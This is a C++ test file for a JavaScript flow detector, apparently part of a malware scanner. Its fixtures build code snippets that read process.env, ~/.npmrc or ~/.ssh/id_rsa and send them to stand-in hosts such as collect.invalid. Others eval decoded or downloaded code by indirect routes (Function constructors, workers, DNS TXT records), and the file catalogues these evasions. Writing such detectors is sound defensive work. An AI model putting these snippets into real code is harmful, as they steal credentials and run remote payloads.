// Ways that hide a flow from a reader, each with the same file where the flow is cut. Hosts are reserved names.
#include <string>
#include <utility>
#include <vector>

#include <gtest/gtest.h>

#include "judges/vet/flow/flow.h"
#include "judges/vet/flow/flow_fixture.h"

namespace ward::vet {
namespace {

double heaviest(const std::string& text, std::string_view signal) {
    double weight = -1;
    for (const Sighting& one : flows_of({{"index.js", text}}).reading.sightings)
        if (one.signal == signal) weight = std::max(weight, one.weight.value_or(4));
    return weight;
}

// SOURCE is what is followed, and `{}` in its place nothing.
void check_ways(const std::vector<std::pair<std::string, std::string>>& ways, const std::string& source,
                const std::string& nothing, std::string_view signal, double least) {
    for (const auto& [name, text] : ways) {
        const size_t at = text.find("SOURCE");
        ASSERT_NE(at, std::string::npos) << name;
        std::string flowing = text;
        std::string cut = text;
        EXPECT_GE(heaviest(flowing.replace(at, 6, source), signal), least) << name << "\n" << flowing;
        EXPECT_LT(heaviest(cut.replace(at, 6, nothing), signal), least) << name << "\n" << cut;
    }
}

TEST(FlowEvasions, SecretsTakeAWayRound) {
    const std::string send = "fetch('https://collect.invalid', { method: 'POST', body: x })";
    check_ways(
        {
            {"async generator",
             "async function* g() { yield SOURCE }\n(async () => { for await (const x of g()) " + send + " })()"},
            {"next of a generator", "function* g() { yield SOURCE }\nconst x = g().next().value; " + send},
            {"values of a tagged template", "const t = (s, ...v) => { const x = v[0]; " + send + " };\nt`a${SOURCE}b`"},
            {"what is thrown", "try { throw SOURCE } catch (x) { " + send + " }"},
            {"an emitter",
             "const e = new (require('events'))();\ne.on('x', (x) => " + send + ");\ne.emit('x', SOURCE)"},
            {"an emitter's class",
             "class E extends require('events').EventEmitter {}\nconst e = new E();\ne.on('x', (x) => " + send +
                 ");\ne.emit('x', SOURCE)"},
            {"bound arguments", "const f = ((x) => " + send + ").bind(null, SOURCE);\nf()"},
            {"a timer's argument", "setTimeout((x) => " + send + ", 1, SOURCE)"},
            {"Reflect.get", "const x = Reflect.get({ a: SOURCE }, 'a');\n" + send},
            {"http2",
             "const s = require('http2').connect('https://h.invalid');\nconst r = s.request({ ':path': '/' "
             "});\nr.end(SOURCE)"},
            {"the input of curl",
             "require('child_process').execSync('curl -d @- https://h.invalid', { input: SOURCE })"},
            {"a proxy", "const x = JSON.stringify(new Proxy({ a: SOURCE }, {}));\n" + send},
        },
        "JSON.stringify(process.env)", "JSON.stringify({})", "S03", 4);
}

TEST(FlowEvasions, CommandsPrintSecrets) {
    const std::string send = "fetch('https://collect.invalid', { method: 'POST', body: x })";
    const std::string cp = "const cp = require('child_process');\n";
    check_ways({{"a result", cp + "const x = cp.execSync(SOURCE);\n" + send},
                {"a callback", cp + "cp.exec(SOURCE, (e, x) => " + send + ")"},
                {"standard output", cp + "const x = cp.spawnSync(SOURCE).stdout;\n" + send}},
               "'printenv'", "'date'", "S03", 4);
    check_ways({{"a file", cp + "const x = cp.execSync(SOURCE);\n" + send}}, "'cat ~/.npmrc'", "'cat ~/notes'", "S03",
               4);
    check_ways({{"a file's descriptor",
                 "const fs = require('fs');\nconst fd = fs.openSync(SOURCE);\n"
                 "const x = Buffer.alloc(99);\nfs.readSync(fd, x);\n" +
                     send}},
               "home + '/.ssh/id_rsa'", "home + '/notes'", "S03", 4);
}

TEST(FlowEvasions, VariablesOneByOne) {
    const std::string send = "fetch('https://collect.invalid', { method: 'POST', body: x })";
    check_ways({{"for in", "let x = '';\nfor (const k in SOURCE) x += k + '=' + process.env[k];\n" + send},
                {"entries", "let x = '';\nfor (const [k, v] of Object.entries(SOURCE)) x += k + v;\n" + send},
                {"keys", "const x = Object.keys(SOURCE).map((k) => process.env[k]).join();\n" + send}},
               "process.env", "{}", "S03", 1.5);
    // A helper that is asked for each of them by name tells nothing of who gets which.
    EXPECT_LT(
        heaviest("const get = (k) => process.env[k];\nconst x = get('A_TOKEN');\nget('B_TOKEN');\n" + send, "S03"), 1);
}

TEST(FlowEvasions, DecodedCodeTakesAWayRound) {
    check_ways(
        {
            {"by a sequence", "(0, eval)(SOURCE)"},
            {"by a computed name", "globalThis['ev' + 'al'](SOURCE)"},
            {"by a constructor's constructor", "[].constructor.constructor(SOURCE)()"},
            {"by a function's constructor",
             "const A = Object.getPrototypeOf(async function () {}).constructor;\nnew A(SOURCE)()"},
            {"by Reflect", "Reflect.construct(Function, [SOURCE])()"},
            {"Function.constructor", "new Function.constructor('a', SOURCE)()"},
            {"a tagged Function", "Function`a${SOURCE}`()"},
            {"a worker", "new (require('worker_threads').Worker)(SOURCE, { eval: true })"},
            {"a shell's input", "require('child_process').execSync('sh', { input: SOURCE })"},
        },
        "atob(data)", "'alert(1)'", "S04", 4);
    check_ways({{"a file that is required",
                 "const fs = require('fs');\nfs.writeFileSync('/tmp/x.js', SOURCE);\nrequire('/tmp/x.js')"},
                {"a file that is run",
                 "const fs = require('fs');\nfs.writeFileSync('/tmp/x', SOURCE);\n"
                 "require('child_process').execFile('/tmp/x')"}},
               "Buffer.from(data, 'base64')", "text", "S04", 2.5);
    EXPECT_EQ(heaviest("eval(new TextDecoder().decode(new Uint8Array([97, 108, 101, 114, 116, 40, 41])))", "S04"), 4);
    EXPECT_EQ(heaviest("show(new TextDecoder().decode(new Uint8Array([97, 108, 101, 114, 116, 40, 41])))", "S04"), -1);
}

TEST(FlowEvasions, AWorkerOfAPageIsNoThread) {
    const std::string made = "new Worker(URL.createObjectURL(new Blob([x])))";
    EXPECT_EQ(heaviest("const x = atob(data);\n" + made, "S04"), 1);
    EXPECT_EQ(heaviest("const x = text;\n" + made, "S04"), -1);
    EXPECT_EQ(heaviest("fetch('https://h.invalid').then((r) => r.text()).then((x) => " + made + ")", "S08"), 1);
    EXPECT_EQ(heaviest("const { Worker } = require('worker_threads');\nnew Worker(atob(data), { eval: true })", "S04"),
              4);
}

TEST(FlowEvasions, AnImportOfWhatIsDownloadedNamesAModule) {
    const std::string get = "fetch('https://h.invalid').then((r) => r.text()).then((x) => import(";
    EXPECT_EQ(heaviest(get + "x))", "S08"), 1.5);
    EXPECT_EQ(heaviest(get + "'data:text/javascript,' + x))", "S08"), 4);
    EXPECT_EQ(heaviest(get + "`data:text/javascript,${x}`))", "S08"), 4);
    EXPECT_EQ(heaviest(get + "'./' + lang))", "S08"), -1);
}

TEST(FlowEvasions, SettingsOfTheProjectWeighLessUntilTheyAreSent) {
    const std::string open = "const x = require('fs').readFileSync('.env', 'utf8');\n";
    EXPECT_EQ(heaviest(open, "S02"), 1);
    EXPECT_EQ(heaviest("require('fs').readFileSync(home + '/.npmrc')", "S02"), 4) << "what the table gives";
    EXPECT_EQ(heaviest(open + "fetch('https://h.invalid', { method: 'POST', body: x })", "S03"), 4);
}

TEST(FlowEvasions, AnswersOfFailuresAndNames) {
    check_ways(
        {
            {"the error of a request", "require('axios').get('https://h.invalid').catch((e) => { eval(SOURCE) })"},
            {"the error of an awaited one",
             "(async () => { try { await require('axios').get('https://h.invalid') } catch (e) { eval(SOURCE) } })()"},
            {"the second callback", "require('axios').get('https://h.invalid').then(show, (e) => { eval(SOURCE) })"},
        },
        "e.response.data", "'alert(1)'", "S08", 4);
    EXPECT_EQ(heaviest("require('dns').resolveTxt('h.invalid', (e, r) => eval(r[0].join('')))", "S08"), 4);
    EXPECT_EQ(heaviest("require('dns').lookup('h.invalid', (e, r) => eval(r))", "S08"), -1);
}

TEST(FlowEvasions, OrdinaryCodeOfTheSameShapesIsQuiet) {
    for (const std::string text :
         {"for (const k in options) headers[k] = options[k];\nfetch('https://h.invalid', { headers })",
          "try { await fetch(u) } catch (e) { console.error(e) }",
          "const o = require('child_process').execSync('git rev-parse HEAD');\nfetch('https://h.invalid/' + o)",
          "class A { static make() { return new this.constructor(1) } }\nA.make()",
          "const l = lexer.next();\nfetch('https://h.invalid', { body: l.value })",
          "require('net').connect(options.port || process.env.A_TOKEN + process.env.B_TOKEN)",
          "emitter.emit('done', await fetch('https://h.invalid'))"})
        EXPECT_EQ(signals_in(text), "") << text;
}

}  // namespace
}  // namespace ward::vet
